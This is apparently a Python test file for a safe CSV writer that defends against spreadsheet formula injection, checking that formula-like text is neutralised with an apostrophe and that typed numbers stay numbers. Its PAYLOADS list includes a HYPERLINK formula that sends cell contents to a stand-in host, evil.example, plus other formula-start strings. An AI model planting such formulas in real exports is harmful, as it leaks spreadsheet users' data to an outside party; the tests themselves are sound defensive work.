"""The one CSV writer: formula-like text is neutralised, the export's own numbers are not."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.files.safe_csv import Cell, SafeCsvWriter, neutralise, restore
from domain.text import FORMULA_STARTS

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(A1:A9)",
    "+1+1",
    "-2+3",
    "\tcmd",
    "\r=1",
    "-12.50",
]


def written(*rows: list[Cell]) -> str:
    output = io.StringIO()
    writer = SafeCsvWriter(output)
    for row in rows:
        writer.writerow(row)
    return output.getvalue()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_a_spreadsheet_would_run_is_quoted_behind_an_apostrophe(payload: str) -> None:
    text = written(["id-1", payload])
    assert text.startswith("id-1,\"'")
    [[_, cell]] = list(csv.reader(io.StringIO(text)))
    assert cell == "'" + payload


def test_numbers_the_export_typed_stay_numbers() -> None:
    text = written([Decimal("-12.50"), -3, 2.5, "-12.50"])
    assert text == '-12.50,-3,2.5,"\'-12.50"\r\n'


def test_plain_text_is_written_as_csv_writes_it() -> None:
    row: list[Cell] = ["Zoë", "a,b", 'say "hi"', "line\nbreak", "", "O'Neill", "a=b"]
    text = written(row)
    standard = io.StringIO()
    csv.writer(standard).writerow(row)
    assert text == standard.getvalue()


@given(st.text(st.characters(blacklist_characters="\x00")))
def test_any_text_reads_back_exactly_and_never_starts_like_a_formula(text: str) -> None:
    safe = neutralise(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert restore(safe) == text
    [row] = csv.reader(io.StringIO(written(["x", text]), newline=""))
    assert [restore(cell) for cell in row] == ["x", text]
